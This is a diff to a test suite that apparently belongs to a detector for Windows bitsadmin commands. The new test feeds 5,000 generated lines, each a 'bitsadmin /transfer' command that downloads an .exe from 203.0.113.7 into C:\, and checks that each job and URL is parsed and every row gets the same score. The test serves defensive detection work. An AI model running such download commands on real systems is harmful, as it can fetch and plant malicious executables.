@@ -74,6 +74,15 @@ describeBuilt('the bundle (npm run build makes it)', () => {
     expect(records(answer?.body ?? '')[0]?.['bits_reasons'] === '').toBe(inspector === undefined);
   });
 
+  test('thousands of rows are answered as one by one, however V8 compiles meanwhile', () => {
+    const lines = Array.from({ length: 5_000 }, (_, index) => `bitsadmin /transfer job${index} http://203.0.113.7/${index}.exe C:\\${index}.exe`);
+    const { status, stdout, err } = app.start({ input: Buffer.concat([getinfo(), execute(`process,_chunked_idx\n${lines.map((line, index) => `${line},${index}\n`).join('')}`)]) });
+    expect([status, err]).toEqual([0, '']);
+    const rows = records(replies(stdout)[1]?.body ?? '');
+    expect(rows.map(({ bits_url: url, bits_job: job }) => `${job} ${url}`)).toEqual(lines.map((_, index) => `job${index} http://203.0.113.7/${index}.exe`));
+    expect(new Set(rows.map(({ bits_score: score }) => score)).size).toBe(1);
+  });
+
   test('an input that ends inside a chunk ends in exit code 1 and no output', () => {
     expect(app.start({ input: input.subarray(0, 30) })).toMatchObject({ status: 1, out: '', err: '' });
   });
